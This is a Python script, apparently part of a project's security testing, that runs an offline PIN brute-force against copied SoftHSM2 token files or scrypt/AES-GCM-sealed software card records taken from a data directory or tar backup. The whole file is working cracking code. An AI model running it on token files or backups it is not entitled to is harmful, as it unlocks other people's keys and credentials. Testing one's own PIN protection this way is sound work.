"""An offline PIN search, as someone holding a copy of a data directory or a backup would run
it: no GoldTicket code, only SoftHSM2 (a scratch configuration over copied token files) and the
software cards' published record format.

    python pin_search.py WHERE SERIAL CANDIDATES_FILE SECONDS

WHERE is a copied data directory or a backup (a directory, or a file that may be a tar archive);
the script looks there for the card ``SERIAL``'s SoftHSM2 token or software card file, tries
every candidate PIN (one per line) until one opens it or SECONDS have passed, and prints a JSON
line: {"found": PIN or null, "tried": n, "token": what it found to attack or null}.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import sys
import tarfile
import tempfile
import time
from pathlib import Path

SOFTHSM = ("/usr/lib/softhsm/libsofthsm2.so", "/usr/lib/x86_64-linux-gnu/softhsm/libsofthsm2.so")


def _unpacked(where: Path, scratch: Path) -> Path:
    """``where`` itself if it is a directory, else its contents if it is a tar archive."""
    if where.is_dir():
        return where
    try:
        with tarfile.open(where) as archive:
            archive.extractall(scratch / "unpacked", filter="data")
    except (tarfile.TarError, OSError):
        return scratch / "nothing"  # not an archive anyone can read
    return scratch / "unpacked"


def _softhsm_token(root: Path, serial: str) -> Path | None:
    """The SoftHSM2 token directory whose token.object carries the label ``serial``."""
    label = serial.encode().ljust(32, b" ")
    for token_object in root.rglob("token.object"):
        if label in token_object.read_bytes():
            return token_object.parent
    return None


def _search_softhsm(
    token: Path, serial: str, candidates: list[str], deadline: float, scratch: Path
) -> tuple[str | None, int]:
    import pkcs11
    from pkcs11 import exceptions as p11

    tokens = scratch / "tokens"  # a copy inside the scratch directory, removed with it
    shutil.copytree(token, tokens / token.name)
    config = scratch / "softhsm2.conf"
    config.write_text(f"directories.tokendir = {tokens}\nobjectstore.backend = file\nlog.level = ERROR\n")
    os.environ["SOFTHSM2_CONF"] = str(config)
    module = next(path for path in SOFTHSM if os.path.exists(path))
    library = pkcs11.lib(module)
    target = library.get_token(token_label=serial)
    tried = 0
    for pin in candidates:
        if time.monotonic() > deadline:
            break
        tried += 1
        try:
            with target.open(user_pin=pin):
                return pin, tried
        except (p11.PinIncorrect, p11.PinLenRange, p11.PinInvalid):
            library.reinitialize()  # python-pkcs11 leaks the session of a failed login
            target = library.get_token(token_label=serial)
    return None, tried


def _search_software(
    path: Path, serial: str, candidates: list[str], deadline: float
) -> tuple[str | None, int]:
    from cryptography.exceptions import InvalidTag
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    from cryptography.hazmat.primitives.kdf.scrypt import Scrypt

    record = json.loads(path.read_text())
    salt, nonce, sealed = (base64.b64decode(record[name]) for name in ("salt", "nonce", "ciphertext"))
    tried = 0
    for pin in candidates:
        if time.monotonic() > deadline:
            break
        tried += 1
        key = Scrypt(salt=salt, length=32, n=record["n"], r=record["r"], p=record["p"]).derive(pin.encode())
        try:
            AESGCM(key).decrypt(nonce, sealed, serial.encode())
            return pin, tried
        except InvalidTag:
            continue
    return None, tried


def main(where: str, serial: str, candidates_file: str, seconds: str) -> None:
    deadline = time.monotonic() + float(seconds)
    candidates = Path(candidates_file).read_text().split()
    with tempfile.TemporaryDirectory(prefix="pin-search-") as scratch:
        root = _unpacked(Path(where), Path(scratch))
        found, tried, attacked = None, 0, None
        token = _softhsm_token(root, serial) if root.exists() else None
        software = next(root.rglob(f"{serial}.json"), None) if root.exists() else None
        if token is not None:
            attacked = "softhsm"
            found, tried = _search_softhsm(token, serial, candidates, deadline, Path(scratch))
        elif software is not None:
            attacked = "software"
            found, tried = _search_software(software, serial, candidates, deadline)
    print(json.dumps({"found": found, "tried": tried, "token": attacked}))


if __name__ == "__main__":
    main(*sys.argv[1:])
